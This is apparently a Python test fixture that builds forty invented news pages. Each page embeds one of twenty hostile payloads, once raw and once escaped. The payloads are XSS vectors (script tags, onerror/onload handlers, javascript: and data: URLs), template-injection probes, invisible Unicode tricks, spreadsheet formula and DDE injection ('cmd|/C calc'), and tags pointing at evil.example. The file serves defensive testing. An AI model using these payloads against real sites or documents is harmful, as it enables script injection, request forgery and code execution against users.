"""Forty pages that try to become active in the browser of whoever checks them. All of our own writing; persons are invented."""

from __future__ import annotations

from html import escape

from onrecord.records import Capture

PAYLOADS = (
    "<script>window.struck=1</script>",
    "<img src=x onerror=window.struck=1>",
    "<svg onload=window.struck=1><circle r=9 /></svg>",
    "<svg><script>window.struck=1</script></svg>",
    "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>",
    "<a href='javascript:window.struck=1'>the minister</a>",
    "<a href='data:text/html,<script>opener.struck=1</script>'>the note</a>",
    "\"><script>window.struck=1</script><b x=\"",
    "' onmouseover='window.struck=1' autofocus onfocus='window.struck=1' tabindex='1",
    "<style>*{background:url(/struck)}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<form action=//evil.example/><input name=csrf><button>Accept</button></form>",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}{# gone #}${7*7}",
    "</textarea></title></script><script>window.struck=1</script>",
    "\u202egnp.exe\u202c and \u2066isolated\u2069 a\u200bdmin\u200d\ufeff",
    "=HYPERLINK(\"//evil.example\",\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<object data='data:text/html,x'></object><embed src=//evil.example/x.swf>",
    "<details open ontoggle=window.struck=1><video><source onerror=window.struck=1></video></details>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=window.struck=1>\">",
)  # fmt: skip


def captures() -> list[Capture]:
    """Each payload on two pages: as markup, and written out so that the reader of the page sees it as words."""
    found = []
    for number, payload in enumerate(PAYLOADS):
        for form, words in (("raw", payload), ("told", escape(payload))):
            source = f"hostile/{number:02}-{form}-{payload[:20].replace('/', '_')}.html"
            url = "javascript:window.struck=1//" if number % 5 == 0 else f"https://example.org/{number}?{payload[:40]}"
            found.append(
                Capture(
                    content=_page(words, f"{number}-{form}").encode("utf-8", "surrogatepass"), source=source, url=url
                )
            )
    return found


def _page(words: str, name: str) -> str:
    attribute = words.replace('"', "&quot;")
    return f"""<!doctype html><html id="{name}"><head><meta charset="utf-8"><title>Envoy says {words} | The Invented Post</title>
<meta property="og:site_name" content="Post {attribute}"><meta name="author" content="{attribute}">
<meta property="article:published_time" content="2025-03-15T10:00:00Z"></head><body>
<nav><a href="/world">World {words}</a> <a href="/sport">Sport</a></nav>
<article><h1>Envoy says {words}</h1><p class="byline">By {words} Lindqvist</p>
<p>French Foreign Minister Hélène Aubrac met her Moroccan counterpart Driss Benzakkour {words} in Rabat on Friday, the two
ministries said in a joint statement.</p>
<p>"We will not discuss {words} with anybody," Aubrac told Reuters. The Moroccan Foreign Ministry denied that {words} had
been agreed.</p>
<figure><img src="x.jpg" alt="{attribute}"><figcaption>A table {words} in Rabat</figcaption></figure>
<p>A diplomat said that the talks {words} would go on in April.</p></article>
<section><h2>Latest posts</h2><ul><li><a href="/1">Spain accuses {words}</a></li><li><a href="/2">Rail strike {words}</a></li></ul></section>
</body></html>"""
